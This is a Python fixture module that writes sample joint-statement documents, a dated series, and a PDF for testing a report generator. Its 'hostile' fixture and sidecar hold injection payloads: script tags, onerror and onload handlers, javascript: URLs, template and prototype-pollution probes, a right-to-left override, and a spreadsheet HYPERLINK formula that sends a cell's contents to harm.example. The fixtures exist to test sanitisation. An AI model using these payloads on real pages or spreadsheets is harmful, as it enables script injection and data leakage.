"""Documents for the report: a statement as a PDF, and one that is hostile throughout."""

from pathlib import Path

# Turns the letters after it around (Unicode's right-to-left override), and ends that.
OVERRIDE, POP = "\u202e", "\u202c"
_HARM = "window.hacked = true"
HOSTILE = f"""Joint Statement on <script>{_HARM}</script> Harbours

The United States and Japan met in Tokyo.

Next steps </script><script>{_HARM}</script>
- The two sides committed to expand <img src=x onerror="{_HARM}"> exercises by 2027.
- The two sides decided to open "><svg onload="{_HARM}"> a port \u2028 {OVERRIDE}at{POP} Kobe.
- Japan will build <iframe srcdoc="<script>parent.hacked=true</script>"></iframe> a pier.
- The United States will review javascript:{_HARM} with <a href="javascript:{_HARM}">Japan</a>.
- =HYPERLINK("http://harm.example/?"&A1) The two sides agreed to {{{{constructor}}}} share data.
"""
SIDECAR = f"""title = "Statement <img src=x onerror='{_HARM}'> {{{{7*7}}}}"
issuer = "<script>{_HARM}</script>"
date = "2023-05-01"
series = "__proto__"
url = "javascript:{_HARM}"
"""
# Three statements of a series: each point hardens, softens, is kept or comes to an end.
SERIES = {
    "2021-03-01": (
        "The two countries committed to explore a joint pilot school for harbour pilots.",
        "The two countries intend to share <b>tide tables</b> with harbour pilots.",
        "Norway will fund dredging of coastal harbours by 2025.",
    ),
    "2022-03-10": (
        "The two countries decided to establish a joint pilot school for harbour pilots.",
        "The two countries committed to share <b>tide tables</b> and charts with harbour pilots.",
        "Norway will continue to fund dredging of coastal harbours.",
    ),
    "2023-04-02": (
        "The two countries have established a joint pilot school for harbour pilots.",
        "The two countries welcomed <b>tide tables</b> shared with harbour pilots.",
    ),
}
PAGES = (
    (
        "Joint Statement on Harbours",
        "The United States and Japan met in Tokyo on May 1, 2023.",
        "The two sides committed to expand joint exercises by 2027.",
    ),
    ("The Ministers welcomed progress on port security.",),
    (
        "Japan will establish a liaison office in Honolulu with Australia in 2025.",
        "The United States intends to continue to support port security training.",
        "The United States will open a training centre by 2026.",
    ),
)


def write_hostile(folder: Path) -> None:
    """A statement and its sidecar that try everything against a page."""
    (folder / "hostile.txt").write_text(HOSTILE, encoding="utf-8")
    (folder / "hostile.meta.toml").write_text(SIDECAR, encoding="utf-8")


def write_series(folder: Path) -> None:
    """Three dated statements of one series, as text."""
    title = "Joint Statement of the Port Committee"
    head = f"{title}\n\nThe Governments of Canada and Norway met in Bergen.\n\n"
    for day, points in SERIES.items():
        file = folder / f"port-{day[:4]}.txt"
        file.write_text(head + "\n".join(f"- {point}" for point in points) + "\n", "utf-8")
        sidecar = f'date = {day}\nseries = "The <i>Port</i> Committee"\n'
        file.with_suffix(".meta.toml").write_text(sidecar, encoding="utf-8")


def write_pdf(file: Path) -> None:
    """A statement of three pages, of which the second holds no commitment."""
    from reportlab.pdfgen.canvas import Canvas

    canvas = Canvas(str(file), pagesize=(400, 500), invariant=True)
    for page in PAGES:
        for line, text in enumerate(page):
            canvas.setFont("Helvetica", 9 + 4 * (page is PAGES[0] and line == 0))
            canvas.drawString(40, 440 - 40 * line, text)
        canvas.showPage()
    canvas.save()
